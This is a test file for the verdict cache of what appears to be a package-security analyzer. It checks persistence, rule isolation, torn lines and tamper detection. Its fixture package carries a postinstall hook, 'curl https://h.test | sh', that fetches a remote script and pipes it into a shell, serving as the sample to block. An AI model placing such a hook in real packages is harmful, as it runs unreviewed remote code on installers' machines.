import { appendFileSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { analyzePackage, openVerdictCache } from '../../src/analyze/index.js';
import { limitVerdict } from '../../src/analyze/limit-verdict.js';
import { ownRules, packageOf } from './in-memory.js';

const KEY = `sha512-${Buffer.alloc(64, 1).toString('base64')}`;
const OTHER = `sha512-${Buffer.alloc(64, 2).toString('base64')}`;
const verdict = analyzePackage(packageOf({}, { scripts: { postinstall: 'curl https://h.test | sh' } }), ownRules());
const home = (): string => mkdtempSync(join(tmpdir(), 'verdicts-'));
const segment = (folder: string): string => join(folder, 'verdicts', readdirSync(join(folder, 'verdicts'))[0] ?? '');

describe('verdict cache', () => {
  test('gives back what was kept, marked as from the cache, also to the next process', () => {
    const folder = home();
    openVerdictCache(folder, 'rules').set(KEY, verdict);
    expect(openVerdictCache(folder, 'rules').get(KEY)).toEqual({
      ...verdict,
      stats: { ...verdict.stats, fromCache: true },
    });
    expect(openVerdictCache(folder, 'rules').get(OTHER)).toBeNull();
  });

  test('other rules, another variant and anything but sha512 know nothing', () => {
    const folder = home();
    const cache = openVerdictCache(folder, 'rules');
    cache.set(KEY, verdict);
    cache.set('sha1-abc', verdict);
    expect(openVerdictCache(folder, 'other rules').get(KEY)).toBeNull();
    expect(cache.get(KEY, 'source')).toBeNull();
    expect(cache.get('sha1-abc')).toBeNull();
  });

  test('a torn last line and foreign lines lose nothing else', () => {
    const folder = home();
    openVerdictCache(folder, 'rules').set(KEY, verdict);
    appendFileSync(segment(folder), '{"key":"sha512-torn","verd');
    openVerdictCache(folder, 'rules').set(OTHER, verdict);
    const again = openVerdictCache(folder, 'rules');
    expect(again.get(KEY)?.score).toBe(verdict.score);
    expect(again.get(OTHER)?.score).toBe(verdict.score);
  });

  test('a record that was tampered into another shape is not taken', () => {
    const folder = home();
    openVerdictCache(folder, 'rules').set(KEY, verdict);
    writeFileSync(
      segment(folder),
      readFileSync(segment(folder), 'utf8').replace('"action":"block"', '"action":"fine"'),
    );
    expect(openVerdictCache(folder, 'rules').get(KEY)).toBeNull();
  });

  test('the verdict that a limit made is not kept', () => {
    const cache = openVerdictCache(home(), 'rules');
    cache.set(KEY, limitVerdict('time'));
    expect(cache.get(KEY)).toBeNull();
  });
});
